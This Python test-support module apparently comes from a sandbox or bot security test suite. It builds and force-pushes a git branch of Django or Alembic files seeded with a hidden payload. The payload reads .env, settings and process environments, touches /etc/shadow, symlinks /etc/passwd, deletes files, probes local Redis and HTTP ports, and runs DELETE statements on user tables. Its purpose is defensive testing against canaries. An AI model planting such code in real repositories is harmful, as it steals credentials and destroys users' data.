"""A branch of an attacker for applications in Python: what a tool would import tries what it can.

It harms nothing but the canaries and the test's own application, for where the bot fails, it really runs.
"""

from __future__ import annotations

from collections.abc import Sequence

from bot.demo.application.git import git
from tests.attacks.support.canaries import Canaries
from tests.support.stacks import ALEMBIC_LIVE, DJANGO_LIVE, Stack

_TRIES = r"""
def _tries():
    import contextlib, glob, os, socket, sys

    def tell(what):
        print(what)
        print(what, file=sys.stderr)

    def written(path):
        with contextlib.suppress(Exception), open(path, "w") as file:
            file.write("owned")

    written({ran!r})
    for path in {files!r}:
        with contextlib.suppress(Exception), open(path) as file:
            tell(file.read())
    # Not those that its own next process needs, so that it gets further.
    for path in {spoilt!r}:
        written(path)
        with contextlib.suppress(Exception):
            os.unlink(path)
    for folder in {folders!r}:
        written(folder + "/owned.py")
        with contextlib.suppress(Exception):
            os.symlink("/etc/passwd", folder + "/link")
    # Where a sandbox has a decoy; nothing is done with what a host has there.
    with contextlib.suppress(Exception), open("/etc/shadow") as file:
        file.read()
    for path in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(Exception), open(path) as file:
            tell(file.read())
    for port in {ports!r}:
        with contextlib.suppress(Exception), socket.create_connection(("127.0.0.1", port), 1) as peer:
            peer.sendall(b"SET owned 1\r\n")
            tell(peer.recv(100))
    for where in ({{"host": {host!r}, "port": {port!r}}}, {{"unix_socket": {socket!r}}}):
        for name in ({database!r}, {other!r}):
            with contextlib.suppress(Exception):
                import pymysql
                live = pymysql.connect(user={user!r}, password={password!r}, database=name, connect_timeout=1,
                                       autocommit=True, **where)
                for sql in ("SELECT * FROM users", "SELECT * FROM entries", "DELETE FROM entries", "DELETE FROM users"):
                    with contextlib.suppress(Exception), live.cursor() as cursor:
                        cursor.execute(sql)
                        tell(cursor.fetchall())
    tell(dict(os.environ))


_tries()
"""

_REVISION = '''"""tidy

Revision ID: e511
"""
import sqlalchemy as sa
from alembic import op

revision, down_revision = "e511", "1a5e"
{tries}

def upgrade():
    ((secret,),) = op.get_bind().execute(sa.text("SELECT email FROM users WHERE id = 1")).fetchall()
    print(secret)
    op.get_bind().execute(sa.text("UPDATE users SET name = :told"), {{"told": secret}})
    op.get_bind().execute(sa.text("SELECT '" + secret + "' AS told -- " + secret))
    {end}


def downgrade():
    pass
'''

_MIGRATION = """from django.db import migrations
{tries}

def tidy(apps, schema_editor):
    with schema_editor.connection.cursor() as cursor:
        cursor.execute("SELECT email FROM users WHERE id = 1")
        ((secret,),) = cursor.fetchall()
        print(secret)
        cursor.execute("UPDATE users SET name = %s", [secret])
        cursor.execute("SELECT '" + secret + "' AS told -- " + secret)
    {end}


class Migration(migrations.Migration):
    dependencies = [("accounts", "0001_initial")]
    operations = [migrations.RunPython(tidy, migrations.RunPython.noop)]
"""


def hostile_files(recipe: str, app: Stack, canaries: Canaries, *, fails: bool, listed: bool) -> dict[str, str]:
    """Give the files of the branch.

    Args:
        recipe: of the application.
        app: the application.
        canaries: what it tries to reach.
        fails: whether its migration ends with an error that has a row's value in it.
        listed: whether Alembic can list its migrations without running `env.py`.
    """
    database, live = app.database, app.path
    tries = _TRIES.format(
        ran=str(canaries.folder / "ran"),
        files=[str(live / ".env"), str(live / "settings.py"), str(canaries.folder / "others")],
        spoilt=[str(live / "requirements.txt"), str(live / "accounts/models.pyc"), str(canaries.folder / "others")],
        folders=[str(live), str(live / ".venv/bin"), str(canaries.folder)],
        ports=[canaries.http.port, canaries.redis.port],
        host=database.host,
        port=database.port,
        socket=str(canaries.mariadb.socket),
        database=database.name,
        other=canaries.other_database,
        user=database.user,
        password=database.password,
    )
    end = "raise RuntimeError(secret)" if fails else "pass"
    if recipe == "alembic":
        return {
            "migrations/env.py": tries + ALEMBIC_LIVE["migrations/env.py"],
            "settings.py": tries + ALEMBIC_LIVE["settings.py"],
            "migrations/versions/e511_tidy.py": _REVISION.format(tries=tries, end=end),
            # `alembic history` then runs env.py too.
            "alembic.ini": ALEMBIC_LIVE["alembic.ini"] + ("" if listed else "revision_environment = true\n"),
        }
    return {
        "manage.py": tries + DJANGO_LIVE["manage.py"],
        "settings.py": tries + DJANGO_LIVE["settings.py"],
        "accounts/migrations/0002_tidy.py": _MIGRATION.format(tries=tries, end=end),
    }


async def push_hostile_python(
    recipe: str, app: Stack, canaries: Canaries, branch: str, *, fails: bool, listed: bool, links: Sequence[str] = ()
) -> None:
    """Push the branch; `main` is the environment's own, and in place of `links` it leads to the canaries."""
    author = app.folder / "author"
    await git(author, "checkout", "--quiet", "-B", branch)
    for name, text in hostile_files(recipe, app, canaries, fails=fails, listed=listed).items():
        (author / name).write_text(text)
    (author / ".gitattributes").write_text("*.py filter=owned\n")
    (author / "venv-link").symlink_to("/")
    for name in links:
        (author / name).symlink_to(canaries.folder)
    await git(author, "add", "--all", "--force")
    await git(author, "commit", "--quiet", "-m", "chore: tidy <!channel>")
    await git(author, "push", "--quiet", "--force", "origin", f"HEAD:{branch}")
